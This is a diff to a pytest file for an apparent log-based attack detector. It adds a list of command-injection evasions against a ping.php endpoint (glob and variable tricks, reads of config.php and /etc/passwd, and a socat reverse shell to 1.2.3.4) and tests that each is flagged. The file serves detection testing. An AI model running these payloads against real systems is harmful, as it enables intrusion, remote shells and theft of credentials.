@@ -111,6 +111,32 @@ EVASIONS_LEFT = [
     (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227&x=1"), "sqli-blind-probe"),
 ]
 
+# The command-injection evasions of the second audit (2026-12-07), each run by dash, the
+# /bin/sh PHP's system() calls.
+EVASIONS_DASH = [
+    # 1. Globs, empty expansions and a backslash-newline inside the command name.
+    _line("/ping.php?ip=127.0.0.1;/bin/wh?ami"),
+    _line("/ping.php?ip=127.0.0.1;/usr/bin/who*i"),
+    _line("/ping.php?ip=127.0.0.1;who$()ami"),
+    _line("/ping.php?ip=127.0.0.1;wh$@oami"),
+    _line("/ping.php?ip=127.0.0.1;w${x}hoami"),
+    _line("/ping.php?ip=127.0.0.1|c$@at%20index.php"),
+    _line("/ping.php?ip=127.0.0.1;w%5C%0Ahoami"),
+    # 2. A substitution of printf, a subshell, a name built from variables.
+    _line("/ping.php?ip=127.0.0.1;$(printf%20id)"),
+    _line("/ping.php?ip=127.0.0.1;(id)"),
+    _line("/ping.php?ip=127.0.0.1;a=wh;b=oami;$a$b"),
+    # 3. Commands that were not in the word list, and files run by their path.
+    _line("/ping.php?ip=127.0.0.1;tac%20index.php"),
+    _line("/ping.php?ip=127.0.0.1;head%20-c%20999%20config.php"),
+    _line("/ping.php?ip=127.0.0.1;socat%20tcp:1.2.3.4:4444%20exec:bash"),
+    _line("/ping.php?ip=127.0.0.1;./x.sh"),
+    _line("/ping.php?ip=127.0.0.1;/tmp/x"),
+    _line("/ping.php?ip=127.0.0.1;.%20/tmp/x"),
+    _line("/ping.php?ip=127.0.0.1;find%20/%20-name%20x"),
+    _line("/ping.php?ip=127.0.0.1;awk%20'%7Bprint%7D'%20/etc/passwd"),
+]
+
 ORDINARY = [
     _line("/search?q=european+union+select+committee"),
     _line("/books/search?q=javascript:+the+good+parts"),
@@ -146,3 +172,9 @@ def test_an_ordinary_search_raises_nothing_of_medium_or_more(pipeline: Pipeline,
     result = pipeline.process(line, Origin("false-flag", 1))
     serious = [f.rule_id for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank]
     assert serious == []
+
+
+@pytest.mark.parametrize("line", EVASIONS_DASH, ids=[line[48:100] for line in EVASIONS_DASH])
+def test_a_command_dash_runs_is_a_command_injection_chain(pipeline: Pipeline, line: str) -> None:
+    result = pipeline.process(line, Origin("red-team", 3))
+    assert "command-injection-chain" in {finding.rule_id for finding in result.findings}
